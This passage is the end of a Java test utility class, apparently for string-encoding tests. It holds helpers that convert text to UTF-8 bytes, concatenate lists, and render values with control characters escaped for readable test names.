        : text.replace(LONE_SURROGATE, "\\ud800").getBytes(StandardCharsets.UTF_8);
  }

  @SafeVarargs
  private static <T> List<T> concat(List<? extends T>... lists) {
    return Arrays.stream(lists).flatMap(List::stream).collect(Collectors.toList());
  }

  /** A printable, short rendering of a value for a test name (control characters as \\uXXXX). */
  private static String shown(String value) {
    String printable =
        value
            .codePoints()
            .mapToObj(
                c ->
                    Character.isISOControl(c) || c == '\u241F'
                        ? String.format("\\u%04X", c)
                        : new String(Character.toChars(c)))
            .collect(Collectors.joining());
    if (printable.length() > 40) {
      printable = printable.substring(0, 30) + "…(" + value.length() + " chars)";
    }
    return "\"" + printable + "\"";
  }
}
